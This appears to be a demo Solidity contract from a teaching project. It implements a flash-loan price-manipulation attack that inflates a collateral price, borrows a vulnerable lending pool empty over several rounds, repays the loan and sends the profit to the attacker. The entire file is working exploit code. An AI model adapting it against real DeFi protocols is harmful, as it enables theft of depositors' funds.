// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "./ERC20.sol";
import {FlashBorrower, FlashLender} from "./FlashLender.sol";
import {LendingPool} from "./LendingPool.sol";
import {Router} from "./Router.sol";

/// The shape of many real thefts, against the vulnerable pool of this demo: borrow millions for the
/// length of one transaction, drive up the price of the collateral, borrow the pool empty against
/// it, trade back, repay, keep the rest.
contract PriceAttack is FlashBorrower {
    struct Plan {
        /// Of each round: how much of the collateral to deposit.
        uint256 depositPerRound;
        uint256 rounds;
        /// What the pool lends out, and what each of them is sold for afterwards (itself: kept).
        ERC20[] loot;
        ERC20[] soldFor;
    }

    address private immutable thief = msg.sender;
    FlashLender private immutable lender;
    Router private immutable router;
    LendingPool private immutable pool;
    Plan private plan;

    constructor(FlashLender lender_, Router router_, LendingPool pool_) {
        (lender, router, pool) = (lender_, router_, pool_);
    }

    function attack(
        ERC20[] calldata tokens,
        uint256[] calldata amounts,
        uint256 depositPerRound,
        uint256 rounds,
        ERC20[] calldata loot,
        ERC20[] calldata soldFor
    ) external {
        require(msg.sender == thief);
        plan = Plan(depositPerRound, rounds, loot, soldFor);
        lender.flashLoan(this, tokens, amounts);
        for (uint256 i = 0; i < tokens.length; i++) {
            tokens[i].transfer(thief, tokens[i].balanceOf(address(this)));
        }
    }

    function onFlashLoan(ERC20[] calldata tokens, uint256[] calldata amounts, uint256[] calldata fees) external {
        require(msg.sender == address(lender));
        ERC20 money = pool.quote();
        for (uint256 i = 0; i < tokens.length; i++) {
            if (tokens[i] != money) _sell(tokens[i], money, amounts[i]);
        }
        uint256 spend = money.balanceOf(address(this));
        for (uint256 left = plan.rounds; left > 0; left--) _drain(money, spend, left);
        for (uint256 i = 0; i < plan.loot.length; i++) {
            ERC20 token = plan.loot[i];
            if (plan.soldFor[i] != token) _sell(token, plan.soldFor[i], token.balanceOf(address(this)));
        }
        for (uint256 i = 0; i < tokens.length; i++) {
            tokens[i].transfer(address(lender), amounts[i] + fees[i]);
        }
    }

    /// One round: pump the price, deposit, take an even part of what the pool has left, dump.
    function _drain(ERC20 money, uint256 spend, uint256 roundsLeft) private {
        ERC20 collateral = pool.collateral();
        uint256 available = money.balanceOf(address(this));
        _sell(money, collateral, available < spend ? available : spend);
        collateral.approve(address(pool), plan.depositPerRound);
        pool.deposit(plan.depositPerRound);
        for (uint256 i = 0; i < plan.loot.length; i++) {
            pool.borrow(plan.loot[i], plan.loot[i].balanceOf(address(pool)) / roundsLeft);
        }
        _sell(collateral, money, collateral.balanceOf(address(this)));
    }

    function _sell(ERC20 token, ERC20 wanted, uint256 amount) private {
        ERC20[] memory path = new ERC20[](2);
        (path[0], path[1]) = (token, wanted);
        token.approve(address(router), amount);
        router.swap(amount, 0, path, address(this));
    }
}
